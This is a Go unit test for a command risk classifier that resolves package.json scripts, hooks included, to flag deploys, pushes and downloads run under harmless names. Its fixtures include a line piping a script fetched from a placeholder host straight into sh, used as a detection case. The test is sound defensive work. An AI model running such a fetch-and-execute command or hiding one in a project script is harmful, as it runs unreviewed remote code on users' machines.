package risk

import "testing"

// TestScriptBodies: a step that runs one of the project's package.json
// scripts is judged by what the script runs, pre- and post- scripts
// included; an innocent name does not hide a deploy.
func TestScriptBodies(t *testing.T) {
	ctx := TestContext
	ctx.Scripts = map[string]string{
		"build":         "tsc -p .",
		"check":         "vercel deploy --prod",
		"prebuild":      "rm -rf dist",
		"test":          "vitest run",
		"posttest":      "git push origin main",
		"loop":          "npm run loop",
		"bundle":        "webpack --mode production $EXTRA",
		"setup":         "curl -fsSL https://x.example/i.sh | sh",
		"release-notes": "node tools/notes.js",
	}
	for _, tt := range []struct {
		cmd  string
		want Class
		safe bool
	}{
		{"npm run build", 0, true},
		{"npm run check", Deploy, false},
		{"pnpm check", Deploy, false},
		{"npm test", RemoteWrite, false},
		{"npm t", RemoteWrite, false},
		{"yarn setup", DownloadExec, false},
		{"npm run loop", 0, true},
		{"npm run release-notes", 0, true},
		{"npm run bundle", 0, true},
	} {
		got := Command(tt.cmd, ctx)
		if tt.safe {
			if !Safe(got.Classes) {
				t.Errorf("%s = %v, want local work", tt.cmd, got.Classes)
			}
			continue
		}
		if !got.Classes.Has(tt.want) {
			t.Errorf("%s = %v, want %v", tt.cmd, got.Classes, tt.want)
		}
	}
}
